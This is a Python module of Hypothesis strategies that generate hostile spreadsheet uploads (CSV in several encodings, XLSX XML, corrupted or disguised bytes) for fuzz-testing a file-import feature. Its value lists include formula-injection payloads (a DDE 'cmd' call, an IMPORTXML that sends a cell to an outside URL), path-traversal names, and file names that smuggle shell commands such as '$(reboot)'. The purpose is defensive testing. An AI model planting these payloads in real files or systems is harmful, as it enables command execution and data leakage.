"""Hypothesis strategies for hostile spreadsheet files: hostile cells (formulas, NUL and
control characters, text-direction marks, path traversal, absurd lengths and numbers),
written as CSV in several encodings (GBK, UTF-16, UTF-8 with and without a BOM, rows of
mixed encodings) or as XLSX XML, then possibly cut short or corrupted; and plain random bytes
dressed as a workbook, a PDF or an old .xls."""
from __future__ import annotations

import io
import math
import zipfile
from xml.sax.saxutils import escape

from hypothesis import strategies as st

from tests.xlsx_parts import CONTENT_TYPES, MAIN, RELS, WORKBOOK, WORKBOOK_RELS

FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "=1/0", "\t=1+1", "\r=2+2", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]
NAMES = ["../../../etc/passwd", "..\\..\\windows\\system32\\cmd.exe", "/dev/zero", "C:\\con\\aux",
         "\u202efdp.exe", "a\x00b", "line\nbreak", "\x1b[31mred\x1b[0m", "ＡＢＣ", "名字\u200b", "\ufeff"]
NUMBERS = ["NaN", "nan", "inf", "-inf", "Infinity", "1e308", "1e309", "-1e308", "-0", "-0.0", "0x1F", "1_000",
           "9" * 400, "-" + "9" * 5000, "1e-400", "٣", "²", "１２", "1,2,3", "¥-0", "%", "1e3000000"]
FLOATS = [math.nan, math.inf, -math.inf, 1e308, -0.0, 5e-324, 2 ** 63, -(2 ** 63) - 1, 10 ** 30]
ENCODINGS = ["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16", "utf-16-le", "big5", "mixed"]

hostile_text = st.one_of(
    st.sampled_from(FORMULAS + NAMES + NUMBERS),
    st.text(max_size=40),
    st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x3000), max_size=60),
    st.builds(lambda unit, times: unit * times, st.sampled_from(["x", "长", "\x00", "=", ",", '"', "\n"]),
              st.sampled_from([1_000, 40_000, 300_000])),
)
hostile_cell = st.one_of(hostile_text, st.sampled_from(FLOATS), st.integers(), st.floats(), st.none())


def _cell_text(value) -> str:
    return "" if value is None else value if isinstance(value, str) else repr(value)


def csv_bytes(rows: list[list], encoding: str, delimiter: str = ",") -> bytes:
    """Rows as CSV, quoted as Excel does; "mixed": odd rows GBK, even rows UTF-8."""
    lines = []
    for row in rows:
        cells = []
        for value in row:
            text = _cell_text(value)
            if any(ch in text for ch in (delimiter, '"', "\n", "\r")):
                text = '"' + text.replace('"', '""') + '"'
            cells.append(text)
        lines.append(delimiter.join(cells) + "\r\n")
    if encoding == "mixed":
        return b"".join(line.encode("gbk" if n % 2 else "utf-8", "replace") for n, line in enumerate(lines))
    return "".join(lines).encode(encoding, "replace")




def xlsx_parts(sheet_xml: bytes | None = None, title: str = "Sheet1", rows: list[list] | None = None,
               dimension: str | None = None) -> dict[str, bytes]:
    if sheet_xml is None:
        sheet_xml = sheet_xml_of(rows or [], dimension)
    return {"[Content_Types].xml": CONTENT_TYPES.format(shared="").encode(), "_rels/.rels": RELS.encode(),
            "xl/workbook.xml": WORKBOOK.format(title=escape(title, {'"': "&quot;"})).encode(),
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS.format(shared="").encode(), "xl/worksheets/sheet1.xml": sheet_xml}


def sheet_xml_of(rows: list[list], dimension: str | None = None) -> bytes:
    """Cells written raw, as a hostile generator would: text inline (control characters
    and all, which XML forbids), numbers as whatever repr says (nan, inf, 1e+308)."""
    out = [f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">']
    if dimension:
        out.append(f'<dimension ref="{dimension}"/>')
    out.append("<sheetData>")
    for number, row in enumerate(rows, 1):
        out.append(f'<row r="{number}">')
        for value in row:
            if value is None:
                continue
            if isinstance(value, str):
                out.append(f'<c t="inlineStr"><is><t>{escape(value)}</t></is></c>')
            else:
                out.append(f"<c><v>{value!r}</v></c>")
        out.append("</row>")
    out.append("</sheetData></worksheet>")
    return "".join(out).encode("utf-8", "surrogatepass")


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@st.composite
def mutated(draw, data: bytes) -> bytes:
    """``data`` cut short, with bytes overwritten, or with NULs or random bytes put in."""
    how = draw(st.sampled_from(["truncate", "flip", "nul", "insert", "as_is"]))
    if how == "truncate" and data:
        return data[:draw(st.integers(0, len(data) - 1))]
    if how == "flip" and data:
        data = bytearray(data)
        for _ in range(draw(st.integers(1, 20))):
            data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
        return bytes(data)
    at = draw(st.integers(0, len(data)))
    if how == "nul":
        return data[:at] + b"\x00" * draw(st.integers(1, 64)) + data[at:]
    if how == "insert":
        return data[:at] + draw(st.binary(min_size=1, max_size=256)) + data[at:]
    return data


file_names = st.one_of(
    st.sampled_from(["roster.csv", "表格.xlsx", "..\\..\\evil.csv", "\u202eslx.exe", "a\nb\rc.csv", "\x1b[2J.csv",
                     "-rf.csv", " .csv", "x" * 200 + ".csv", "名" * 80 + ".xlsx", "%s%n%x.csv", "$(reboot).csv"]),
    st.text(alphabet=st.characters(blacklist_characters="/\x00", blacklist_categories=("Cs",)),
            min_size=1, max_size=60).filter(lambda n: n not in (".", "..") and len(n.encode()) < 250))


@st.composite
def hostile_table_files(draw, headers: list[str], good_row: list[str]) -> tuple[str, bytes]:
    """A file for an import expecting ``headers``: the right headers (so rows reach the row
    checks) or hostile ones, hostile cells mixed with good ones, as CSV or XLSX, perhaps damaged."""
    name = draw(file_names)
    shape = draw(st.sampled_from(["csv", "csv", "xlsx", "xlsx", "random", "dressed"]))
    if shape == "random":
        return name, draw(st.binary(max_size=4096))
    if shape == "dressed":
        head = draw(st.sampled_from([b"PK\x03\x04", b"%PDF-1.7\n", b"\xd0\xcf\x11\xe0", b"\xef\xbb\xbf",
                                     b"\xff\xfe", b"\xfe\xff"]))
        return name, head + draw(st.binary(max_size=4096))
    header_row = draw(st.one_of(st.just(list(headers)), st.lists(hostile_text, max_size=8)))
    rows = draw(st.lists(st.lists(st.one_of(st.sampled_from(good_row), hostile_cell), min_size=0,
                                  max_size=len(headers) + 2), min_size=0, max_size=6))
    rows = [list(good_row)] + rows if draw(st.booleans()) else rows
    if shape == "csv":
        data = csv_bytes([header_row, *rows], draw(st.sampled_from(ENCODINGS)), draw(st.sampled_from([",", ";", "\t"])))
    else:
        data = zip_bytes(xlsx_parts(rows=[header_row, *rows], title=draw(st.sampled_from(["Sheet1", "名单", "a<b"]))))
    return name, draw(mutated(data))


@st.composite
def good_files_with_hostile_text(draw, headers: list[str], good_row: list[str], free_column: int
                                 ) -> tuple[str, bytes]:
    """A good file but for hostile text where free text may stand (a name, a note, a review):
    formulas, traversal paths, control characters, number-like words. Accepted as inert
    text, or refused for that row and field."""
    row = list(good_row)
    row[free_column] = draw(st.one_of(st.sampled_from(FORMULAS + NAMES + NUMBERS), hostile_text))
    name = draw(file_names)
    if draw(st.booleans()):
        return name, csv_bytes([headers, row], draw(st.sampled_from(ENCODINGS[:5])))
    return name, zip_bytes(xlsx_parts(rows=[headers, row]))
